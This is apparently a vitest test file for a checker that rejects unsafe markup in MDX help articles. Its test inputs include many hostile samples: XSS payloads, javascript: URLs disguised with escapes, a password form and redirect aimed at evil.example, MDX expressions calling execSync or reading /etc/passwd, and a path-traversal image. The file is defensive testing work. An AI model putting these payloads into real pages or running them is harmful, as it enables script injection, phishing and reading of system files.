import { describe, expect, it } from 'vitest';
import { edit, enUS, reportFor } from '../../../test/content-fixtures.ts';
import { checkContent } from './content-check.ts';
import { formatProblem, formatProblems } from './content-problem.ts';
import { findDisallowedContent, needsTreeCheck } from './disallowed-content.ts';

const find = (body: string) => findDisallowedContent('content/en-US/a.mdx', body, 10);
/** The one problem a body has, on one line as the build prints it. */
const only = (body: string) => {
  const problems = find(body);
  expect(problems).toHaveLength(1);
  return formatProblem(problems[0]);
};

describe('findDisallowedContent: elements', () => {
  it('refuses a script element, with the file line and how to fix it', () => {
    const [problem, ...rest] = find('# Title\n\nText.\n\n<script>alert(1)</script>\n');
    expect(rest).toEqual([]);
    expect(problem).toMatchObject({ file: 'content/en-US/a.mdx', line: 14, field: 'markup', found: '<script>' });
    expect(problem.message).toBe("<script> is not allowed in an article: it runs code in the reader's browser");
    expect(problem.fix).toMatch(/remove it/);
  });

  it('refuses a script element inline in a paragraph, whatever its case', () => {
    expect(find('Text <SCRIPT src="/x.js"></SCRIPT> more.\n')).toMatchObject([{ line: 10, found: '<SCRIPT>' }]);
  });

  it.each([
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/" />', 'meta', 'redirect readers to another site'],
    ['<base href="https://evil.example/" />', 'base', 'changes where every relative link on the page points'],
    ['<iframe src="https://evil.example/"></iframe>', 'iframe', 'embeds another site'],
    ['<object data="x.swf"></object>', 'object', 'embeds a plugin'],
    ['<embed src="x.swf" />', 'embed', 'embeds a plugin'],
    ['<form action="https://evil.example/"><input name="password" /></form>', 'form', 'collects what readers type'],
    ['<link rel="stylesheet" href="https://evil.example/a.css" />', 'link', 'loads stylesheets'],
    ['<style>{"body { display: none }"}</style>', 'style', 'restyles the whole site'],
    ['<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', 'svg', 'SVG markup can carry scripts'],
    ['<h2>Not a Markdown heading</h2>', 'h2', 'headings must be Markdown'],
  ])('refuses %s, saying why', (markup, name, why) => {
    const [problem] = find(`${markup}\n`);
    expect(problem).toMatchObject({ line: 10, field: 'markup', found: `<${name}>` });
    expect(problem.message).toContain(`<${name}> is not allowed in an article: `);
    expect(problem.message).toContain(why);
  });

  it('refuses what the allowlist does not name, listing what it does', () => {
    expect(only('<marquee>x</marquee>\n')).toMatch(/^content\/en-US\/a\.mdx:10: markup: <marquee>, which is not on the allowlist of elements an article may use, found <marquee>\n {4}fix: use Markdown, or one of a, abbr, b, blockquote, br, /);
  });

  it('refuses components, fragments, and allowed names written with a capital (MDX reads them as components)', () => {
    expect(only('<Callout type="warning">x</Callout>\n')).toContain('markup: a component, which is not on the allowlist');
    expect(only('<x.y />\n')).toContain('markup: a component');
    expect(only('Text <>x</> more.\n')).toContain('a JSX fragment <>…</>');
    expect(only('One<Br />two\n')).toContain('<Br> is read as a component (capital letter), which would run code, found <Br>\n    fix: write <br> in lower case');
  });

  it('lets through the elements shipped and imported content uses', () => {
    const body = [
      '# <a name="a"></a>Title',
      '',
      'One<br />two, <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <a href="page/" target="_blank">Contoso</a>.',
      '',
      'Icon: <img src="data:image/png;base64,iVBORw0KGgo=" alt="gear" width="16" height="16" />',
      '',
      '<div class="note" dir="rtl" lang="ar">',
      'Text',
      '</div>',
      '',
      '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
      '',
      '<details open><summary>More</summary>Hidden text</details>',
      '',
    ].join('\n');
    expect(find(body)).toEqual([]);
  });
});

describe('findDisallowedContent: attributes', () => {
  it('refuses event-handler attributes in HTML and JSX spelling', () => {
    const problems = find('<img src="/a.png" alt="" onerror="alert(1)" />\n\nSee <a href="/x/" onClick={() => alert(1)}>this</a>.\n');
    expect(problems.map((p) => p.found)).toEqual(['"onerror=alert(1)"', '"onClick={() => alert(1)}"']);
    expect(problems.map((p) => p.line)).toEqual([10, 12]);
    expect(problems[0].message).toContain('event-handler attribute on <img>');
  });

  it('refuses a style attribute, with url( or without', () => {
    expect(only('<span style="background: url(https://evil.example/track.gif)">x</span>\n')).toContain("attribute: a style attribute on <span>: inline styles are refused by the site's Content-Security-Policy and can hide text or load URLs (url(…)), found \"style=background: url(https://evil.example/track.gif)\"");
    expect(only('<p style="display:none">x</p>\n')).toContain('a style attribute on <p>');
  });

  it('refuses Astro directives such as set:html', () => {
    const problem = only('<div set:html={"<img src=x onerror=alert(1)>"} />\n');
    expect(problem).toContain('attribute: set:html on <div> is an Astro directive (set:html writes raw HTML, client: loads scripts), for components, not articles');
    expect(problem).toContain('fix: remove set:html');
    expect(only('<span set:text="x" />\n')).toContain('set:text on <span> is an Astro directive');
  });

  it('refuses attributes an element does not list, naming the ones it does', () => {
    expect(only('<a href="/x/" id="top">x</a>\n')).toContain('attribute: id is not an attribute <a> may carry; allowed: href, name, target, title, lang, dir, class, found "id=/x/"'.replace('id=/x/', 'id=top'));
    expect(only('<span className="x">y</span>\n')).toContain('className on <span>: write it as class');
  });

  it('checks values that must be numbers or one of a few words', () => {
    expect(only('<img src="/a.png" width="100%" />\n')).toContain('width on <img> must be a whole number');
    expect(only('<a href="/x/" target="_top">x</a>\n')).toContain('target on <a> must be one of _blank, found "target=_top"');
  });

  it('refuses spread attributes and computed values, whatever they compute', () => {
    expect(only('<a href="/x/" {...{ onClick: () => alert(1) }}>x</a>\n')).toContain('spread attributes on <a>, which MDX computes with JavaScript');
    expect(only('<a href="/x/" {...{ title: "ok" }}>x</a>\n')).toContain('spread attributes on <a>');
    expect(only('<a href={"java" + "script:alert(1)"}>x</a>\n')).toContain('a JavaScript expression as the value of href on <a>, which MDX runs when the site is built');
  });

  it('reads a quoted string in braces as the attribute value it spells', () => {
    expect(find("<a href={'/en-us/x/'} title={'Home'}>x</a>\n")).toEqual([]);
    expect(find("<a href={'javascript:alert(1)'}>x</a>\n")).toMatchObject([{ field: 'attribute', found: '"href=javascript:alert(1)"', message: expect.stringContaining('a link to a javascript: URL') }]);
    expect(find("<a href={'java\\u0073cript:alert(1)'}>x</a>\n")).toHaveLength(1);
  });

  it('passes an article whose only markup is its section anchors, and inspects an anchor that carries more', () => {
    expect(find('# <a name="a"></a>A\n\n## <a name="b"></a>B\n\n- [Docs](https://docs.example.com/) and **bold**.\n')).toEqual([]);
    expect(find('## <a name="b" onmouseover="x()"></a>B\n')).toMatchObject([{ found: '"onmouseover=x()"' }]);
  });
});

describe('findDisallowedContent: URLs', () => {
  it('refuses javascript: URLs in Markdown links, reference definitions and images', () => {
    const problems = find('[Click](javascript:alert(1))\n\n[ref][r]\n\n[r]: JavaScript:alert(2)\n\n![x](javascript:alert(3))\n');
    expect(problems.map((p) => [p.line, p.field, p.found])).toEqual([[10, 'link', '"javascript:alert(1)"'], [14, 'definition', '"JavaScript:alert(2)"'], [16, 'image', '"javascript:alert(3)"']]);
    expect(formatProblem(problems[0])).toBe("content/en-US/a.mdx:10: link: a link to a javascript: URL, which runs script in the reader's browser; links may use https:, http:, mailto:, tel:, ms-settings: or a path on this site, found \"javascript:alert(1)\"\n    fix: link to an https:// page or to a path on this site");
  });

  it('refuses javascript: URLs disguised with character references, %-escapes, control characters or in JSX', () => {
    expect(find('[x](&#106;avascript:alert(1))\n')).toHaveLength(1);
    expect(find('[x](%6Aavascript:alert(1))\n')).toHaveLength(1);
    expect(find('[x](java%09script:alert(1))\n')).toHaveLength(1);
    expect(find('<a href="java&#115;cript:alert(1)">x</a>\n')).toHaveLength(1);
    expect(find('<a href=" java&#x0A;script:alert(1)">x</a>\n')).toHaveLength(1);
    expect(find('<a href="java\u0001script:alert(1)">x</a>\n')).toHaveLength(1);
    expect(find('<iframe src=" javascript:alert(1)" />\n')).toHaveLength(1);
  });

  it('refuses vbscript:, data: and any other scheme not on the list', () => {
    expect(find('[Click](vbscript:msgbox(1))\n')).toMatchObject([{ line: 10, found: '"vbscript:msgbox(1)"' }]);
    expect(find('<a href="VBScript:msgbox(1)">x</a>\n')).toHaveLength(1);
    expect(find("<a href={'vbscript:msgbox(1)'}>x</a>\n")).toHaveLength(1);
    expect(only('[x](data:text/html;base64,PHNjcmlwdD4=)\n')).toContain('a link to a data: URL; links may use https:');
    expect(only('[x](file:///etc/passwd)\n')).toContain('a link to a file: URL');
  });

  it('allows https, http, mailto, tel and ms-settings links and paths on this site', () => {
    expect(find('[a](https://a.example/javascript:/) [b](http://a.example/) [c](mailto:a@b.example) [d](tel:+33123) [e](ms-settings:windowsupdate) [f](/en-us/x/) [g](x/#y) [h](#top) www.example.com\n')).toEqual([]);
  });

  it('allows images from this site and inline PNG, JPEG, GIF and WebP; refuses other origins and SVG', () => {
    expect(find('![a](/media/en-US/a.png) ![b](data:image/jpeg;base64,/9j/4AAQ) <img src="data:image/webp;base64,UklGRg==" alt="" />\n')).toEqual([]);
    expect(only('![a](https://cdn.example/a.png)\n')).toContain("image: an image from a https: URL; images must be files on this site or inline data: pictures (the site's Content-Security-Policy blocks other origins)");
    expect(only('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="" />\n')).toContain('an inline data: image that is not base64 image/png, image/jpeg, image/gif, image/webp (SVG and other types can carry script)');
  });

  it('reports a script URL in a table cell at its line, and takes a footnote for text', () => {
    expect(find('| a | b |\n| - | - |\n| <a href="javascript:x">y</a> | ~5 min |\n')).toMatchObject([{ line: 12 }]);
    expect(find('Text[^1].\n\n[^1]: javascript:alert(1) is what the attacker typed.\n')).toEqual([]);
  });

  it('lets through code that only shows a script', () => {
    const body = '# <a name="a"></a>Title\n\nRun `<script>alert(1)</script>` or:\n\n```html\n<a href="javascript:x" onclick="y">z</a>\n```\n\n[Docs](https://docs.example.com/javascript:/) and [home](/en-us/).\n';
    expect(find(body)).toEqual([]);
  });
});

describe('findDisallowedContent: import, export and expressions', () => {
  it('refuses import and export, which MDX runs when the site is built', () => {
    const problems = find('import cp from "node:child_process"\n\nexport const x = 1\n');
    expect(problems.map(formatProblem)).toEqual([
      'content/en-US/a.mdx:10: import/export: an import or export statement, which MDX runs as JavaScript when the site is built: articles cannot load or run code, found "import cp from \\"node:child_process\\""\n    fix: remove the line; to start a sentence with the word, write &#x69;mport or &#x65;xport',
      expect.stringContaining('content/en-US/a.mdx:12: import/export: an import or export statement'),
    ]);
  });

  it('refuses {tenant} in prose and says how to write the braces', () => {
    expect(only('Replace {tenant} with your tenant name.\n')).toBe(
      'content/en-US/a.mdx:10: expression: a JavaScript expression in braces, which MDX runs when the site is built: braces in an article may hold only a comment or a quoted string, found "{tenant}"\n    fix: write \\{tenant\\} to show the braces as text, or remove them',
    );
  });

  it.each([
    ['{cp.execSync("id > /tmp/x")}'],
    ['{fs.readFileSync("/etc/passwd")}'],
    ['{process.env.HOME}'],
    ['{process.exit(1)}'],
    ['{<script>alert(1)</script>}'],
    ['{1 + 1}'],
    ['{`template`}'],
  ])('refuses %s', (expression) => {
    expect(find(`Text ${expression} more.\n`)).toMatchObject([{ line: 10, field: 'expression', found: JSON.stringify(expression) }]);
    expect(find(`${expression}\n`)).toMatchObject([{ line: 10, field: 'expression' }]);
  });

  it('lets through comments and quoted strings, which render nothing or the string as text', () => {
    expect(find("Text {/* a note for translators */} and {'{'}literal braces{'}'}.\n\n{/* block comment */}\n")).toEqual([]);
    expect(find('{"javascript:alert(1)"} is text, not a link.\n')).toEqual([]);
  });

  it('reports MDX that does not parse at its line instead of throwing', () => {
    expect(find('Fine.\n\n<div>\n')).toMatchObject([{ field: 'MDX', line: 12 }]);
  });
});

describe('needsTreeCheck', () => {
  it('skips the parse only for bodies with nothing the tree check could refuse', () => {
    expect(needsTreeCheck('# <a name="a"></a>A\n\nText with [a link](https://a.example/) and **bold**.\n')).toBe(false);
    expect(['<br />', '{x}', '![a](b.png)', 'import x from "y"', '[a](javascript:x)', '[a]: vbscript:x', '[a](&#106;avascript:x)', '[a](c%3Ax)'].map(needsTreeCheck)).toEqual(Array(8).fill(true));
  });
});

describe('checkContent with disallowed content', () => {
  it('fails the content check with a readable report naming the file and line', () => {
    const text = '---\ntitle: A\n---\n# <a name="a"></a>A\n\n<button onclick="steal()">Reset</button> <span onclick="steal()">x</span>\n';
    const { articles, problems } = checkContent([{ path: 'content/en-US/a.mdx', text }]);
    expect(articles).toEqual([]);
    expect(formatProblems(problems)).toContain('content/en-US/a.mdx:6: markup: <button> is not allowed in an article: it is an interactive control with no behaviour an article can give it');
    expect(formatProblems(problems)).toContain('content/en-US/a.mdx:6: attribute: an event-handler attribute on <span>');
  });

  it('refuses the code-execution cases as check:content reads them, each at its line', () => {
    const article = edit(enUS, '## <a name="error-message"></a>', 'import cp from "node:child_process"\n\n{cp.execSync("id > /tmp/x")}\n\nHome: {process.env.HOME}, {fs.readFileSync("/etc/passwd")}, {process.exit(1)}\n\n## <a name="error-message"></a>');
    const report = reportFor(article);
    expect(report).toMatch(/^5 content problems:/);
    expect(report).toContain('content/en-US/troubleshoot-sspr.mdx:26: import/export: an import or export statement');
    expect(report).toContain('content/en-US/troubleshoot-sspr.mdx:28: expression: a JavaScript expression in braces, which MDX runs when the site is built: braces in an article may hold only a comment or a quoted string, found "{cp.execSync(\\"id > /tmp/x\\")}"');
    for (const expression of ['{process.env.HOME}', '{fs.readFileSync(\\"/etc/passwd\\")}', '{process.exit(1)}']) expect(report).toContain(`troubleshoot-sspr.mdx:30: expression: a JavaScript expression in braces, which MDX runs when the site is built: braces in an article may hold only a comment or a quoted string, found "${expression}"`);
  });
});

describe('checkContent with images that leave the content folder', () => {
  it('refuses a Markdown image that climbs out of the locale folder, which the build would read', () => {
    const report = reportFor(edit(enUS, '## <a name="error-message"></a>', '![x](../../../../etc/passwd)\n\n## <a name="error-message"></a>'));
    expect(report).toContain("content/en-US/troubleshoot-sspr.mdx:26: image: an image path that leaves the article's locale folder; the build would read a file from outside the content, found \"../../../../etc/passwd\"");
  });
});
